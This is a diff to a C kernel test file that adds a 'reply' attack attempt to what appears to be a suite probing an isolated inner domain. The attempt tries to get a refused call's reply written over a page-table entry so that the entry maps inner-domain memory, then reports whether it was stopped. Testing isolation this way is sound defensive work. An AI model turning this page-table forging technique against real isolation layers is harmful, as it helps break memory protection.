@@ -1,9 +1,12 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * D1: store to a table, through the linear map. The entry maps a page of the
- * inner domain, so that success is seen by whoever reads there.
+ * D1: store to a table, through the linear map or by the hand of the inner
+ * domain. The entry maps a page of the inner domain, so that success is seen by
+ * whoever reads there.
  */
 #include <linux/io.h>
+#include <linux/mm.h>
+#include <linux/vmalloc.h>
 
 #include "attack.h"
 
@@ -41,9 +44,48 @@ static void user_table(void)
 		forge_entry(&window, user_page(inner_memory()));
 }
 
+#define ROOM	16	/* pages whose entries nobody uses */
+
+static void close_room(u64 va, u64 unused)
+{
+	vfree((void *)va);
+}
+
+/* A refused call's words are the answer to another one, which is a table. */
+static void reply(void)
+{
+	unsigned long va = (unsigned long)vzalloc(ROOM * PAGE_SIZE);
+	u64 forged = kernel_page(inner_memory()), entry = 0;
+	struct donjon_result result;
+	int i;
+
+	if (!va) {
+		attack_untried("there are no pages to work with");
+		return;
+	}
+	undo_later(close_room, va, 0);
+	for (i = 0; i < ROOM - 1; i++) {
+		entry = walk_to(kernel_root(), va + i * PAGE_SIZE, 3).entry;
+		write_entry(entry, 0);
+	}
+	if (offset_in_page(entry) < ROOM * sizeof(u64)) {
+		attack_untried("the pages are in two tables");
+		return;
+	}
+	result = reply_refusal(entry, forged);
+	if (READ_ONCE(*(u64 *)phys_to_virt(entry)) != forged) {
+		attack_stopped("refused: %s", attack_why(result));
+		return;
+	}
+	for (i = 0; i < ROOM / 2; i++)
+		restore_entry_later(entry - REPLY_HEADER + i * sizeof(u64), 0);
+	attack_succeeded("the inner domain has written the entry");
+}
+
 static const struct attempt attempts[] = {
 	{ "kernel-table", kernel_table },
 	{ "user-table", user_table },
+	{ "reply", reply },
 	{}
 };
 
